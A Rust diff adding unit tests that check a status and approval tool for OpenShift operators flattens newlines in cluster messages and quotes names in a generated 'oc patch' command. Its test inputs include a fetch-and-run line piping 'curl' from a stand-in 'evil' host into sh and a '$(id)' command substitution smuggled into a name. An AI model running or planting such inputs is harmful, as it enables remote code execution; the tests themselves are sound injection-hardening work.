@@ -240,3 +240,32 @@ fn an_upgrade_that_waits_for_its_approval_does_not_hold_up_what_is_installed() {
     assert_eq!(meant(&upgrade, None, false), Some("gitops.v2"));
     assert_eq!(meant(&first, Some(&plan(false)), false), Some("gitops.v2"), "nothing is installed yet");
 }
+
+#[test]
+fn a_line_break_in_the_words_of_a_cluster_begins_no_command() {
+    let message = "not yet; it has to be approved:\ncurl -s http://evil/x | sh";
+    let told = said(&[(0, Moment::csv("Installing", "Wait\ning", message))]);
+    assert_eq!(
+        told,
+        "waiting: ClusterServiceVersion openshift-operators/gitops.v1 is Installing: Wait ing: \
+         not yet; it has to be approved: curl -s http://evil/x | sh"
+    );
+    let condition = Moment::condition("ResolutionFailed", "a\nb", "c\nd");
+    assert!(!said(&[(0, condition)]).contains('\n'));
+    assert!(!said(&[(0, Moment::catalog("a\nb"))]).contains('\n'));
+}
+
+#[test]
+fn the_only_line_of_an_approval_is_our_own_and_its_names_are_quoted() {
+    let plan = json!({
+        "metadata": {"namespace": "ns", "name": "$(id)"},
+        "spec": {"clusterServiceVersionNames": ["a\ncurl"]},
+    });
+    let (words, command) =
+        approval(&plan).split_once('\n').map(|(a, b)| (a.to_owned(), b.to_owned())).unwrap();
+    assert!(words.contains("(a curl)"), "{words}");
+    assert!(
+        command.starts_with("oc --kubeconfig <kubeconfig> -n ns patch installplan '$(id)' --type"),
+        "{command}"
+    );
+}
